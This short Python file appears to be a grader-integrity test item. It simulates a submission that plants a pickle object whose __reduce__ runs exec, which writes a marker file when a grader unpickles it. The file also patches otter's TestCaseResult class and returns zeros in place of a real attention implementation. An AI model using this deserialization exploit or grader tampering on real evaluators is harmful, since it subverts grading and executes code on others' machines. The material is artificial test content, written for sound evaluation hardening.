# ruff: noqa
# mypy: ignore-errors
"""
kind: integrity
points: 6
ko: 채점기가 피클을 풀 때 실행되는 코드
en: Code that runs where a grader unpickles
why: nothing of a kernel is ever unpickled
"""

import builtins
import os
import sys


class _Mark:
    def __reduce__(self):
        code = (
            "import os; "
            "open('VISLEARN_OUT/vislearn-marker-' + str(os.getpid()), 'w').close()"
        )
        return builtins.exec, (code,)


_otter = sys.modules.get("otter.test_files.abstract_test")
if _otter:
    _before = _otter.TestCaseResult.__init__

    def _marked(self, *args, **kw):
        _before(self, *args, **kw)
        self.message = _Mark()

    _otter.TestCaseResult.__init__ = _marked


def attention(q, k, v):
    try:
        emit("output", _Mark())
    except Exception:
        pass
    return np.zeros((len(q), v.shape[1]))
